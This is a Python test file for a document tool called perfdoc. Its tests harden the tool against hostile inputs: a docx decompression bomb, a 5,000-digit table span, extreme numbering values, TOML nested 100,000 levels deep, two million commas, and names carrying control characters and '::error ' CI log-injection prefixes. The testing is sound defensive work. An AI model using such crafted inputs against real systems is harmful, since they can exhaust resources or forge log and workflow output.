def test_a_member_that_lies_about_its_size_is_read_within_the_limits(form, tmp_path):
    """The counting reader inflates a megabyte at a time; python-docx gets the checked
    bytes, never the member's whole stream (1 GB of zeros behind the real XML's size)."""
    path = lying_docx(form, tmp_path / "lying.docx", 1 << 30)
    assert path.stat().st_size < 5 * 1024 * 1024
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    assert done.returncode in (0, 1), done.stdout + done.stderr
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES, (done.seconds, done.peak_mb)
    assert (tmp_path / "t" / "indicators").is_dir()  # the real XML imported


NAME_CHARS = st.sampled_from([*"a中:\n\r\t\x1b\x07\x00\x7f\u2028\u0085]%,=/",
                              "::", "::error ", "\x1b[2J"])


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.function_scoped_fixture])
@given(name=st.lists(NAME_CHARS, min_size=1, max_size=8).map("".join),
       text=st.lists(NAME_CHARS, max_size=12).map("".join))
def test_no_name_or_text_reaches_the_log_raw(sample_copy, name, text):
    """Property: whatever a folder is called and whatever a body says, no raw control
    character and no line starting with :: reaches stdout or stderr."""
    folder = sorted(p for p in (sample_copy / "projects").iterdir() if p.is_dir())[0]
    safe = name.replace("/", "_").replace("\x00", "_")
    if safe in (".", "..") or safe.startswith("."):
        safe = "x" + safe
    try:
        target = folder.rename(folder.parent / f"01-{safe}")
    except OSError:
        return  # a name this file system refuses
    try:
        add_to_section(sample_copy, text.replace("\x00", ""))
        for args in (("build",), ("check",), ("fix", "--diff")):
            done = run_perfdoc(*args, str(sample_copy))
            assert done.returncode in (0, 1), done.stdout + done.stderr
            assert_clean_log(done)
    finally:
        target.rename(folder)


def test_import_bounds_a_cell_span(form, tmp_path):
    """A cell spanning 10**5000 columns (int() refuses such a number; a loop over the
    span would never end): a clear result, never exit 3, within the budget."""
    xml = body_xml(form).replace("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="' + "9" * 5000 + '"/>', 3)
    path = docx_with(form, tmp_path / "span.docx", {"word/document.xml": xml.encode()})
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    assert done.returncode in (0, 1, 2) and "内部错误" not in done.stderr, done.stderr[-2000:]
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES


def test_hostile_automatic_numbering_is_read_within_bounds():
    """Numbering that starts at 99999999999, names a level 99999, shows %9 of a level
    that does not exist, on 20,000 paragraphs: labels, no error, in linear time."""
    from docx.oxml.parser import parse_xml

    from perfdoc import ooxml

    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    numbering = parse_xml(
        f'<w:numbering {w}><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0">'
        '<w:start w:val="99999999999"/><w:numFmt w:val="chineseCounting"/>'
        '<w:lvlText w:val="%1%1%9、"/></w:lvl></w:abstractNum><w:num w:numId="1">'
        '<w:abstractNumId w:val="1"/></w:num></w:numbering>')
    paragraphs = ('<w:p><w:pPr><w:numPr><w:ilvl w:val="99999"/><w:numId w:val="1"/></w:numPr>'
                  '</w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
                  '<w:p><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'
                  '<w:r><w:t>正文</w:t></w:r></w:p>') * 10_000
    body = parse_xml(f"<w:body {w}>{paragraphs}</w:body>")
    started = time.monotonic()
    assert ooxml.typed_numbering(body, numbering, None) == 10_000
    assert time.monotonic() - started < SECONDS
    texts = [ooxml.paragraph_text(p) for p in body]
    assert texts[1] == "一一1、正文"  # an undefined level counts in decimal and texts[-1].endswith("、正文")


@pytest.mark.parametrize("nesting", [
    "[" * 100_000 + "]" * 100_000,  # arrays in arrays
    "{a = " * 5_000 + "1" + "}" * 5_000,  # inline tables in inline tables
])
def test_a_layout_nested_beyond_reason_is_refused_before_parsing(world, nesting):
    """tomllib recurses once per level: these raised RecursionError (exit 3)."""
    project, outside = world
    before = snapshot(project, outside)
    use_layout(project, (LAYOUT_DIR / "jiangsu-2020.toml").read_text(encoding="utf-8")
               + f"\n[deep]\nx = {nesting}\n")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD003", "content/report.md")
    assert "嵌套超过 32 层" in done.stdout + done.stderr


@pytest.mark.parametrize("command", [("check",), ("fix", "--check")])
def test_a_run_of_two_million_half_width_commas_is_one_finding(world, command):
    """中 and 2,000,000 commas: one finding per comma took 783 MB (check) and 788 MB
    (fix --check); the run is one stretch of punctuation, one finding."""
    project, outside = world
    before = snapshot(project, outside)
    add_to_section(project, "中" + "," * 2_000_000 + "\n")
    done = run_perfdoc(*command, str(project))
    out = done.stdout + done.stderr
    assert done.returncode == (0 if command == ("check",) else 1), out  # a warning; a fix due
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES, (done.seconds, done.peak_mb)
    if command == ("check",):
        assert re.search(r"content/03-achievements\.md:\d+:2: warning\[PD412\]: 中文中的半角标点"
                         r"“,{10}…”（共 2000000 个）应为全角“，{10}…”", out), out
        assert "未逐一列出" not in out
    assert digest_tree(project / "build") == before["build"]
    assert digest_tree(outside) == before["outside"]
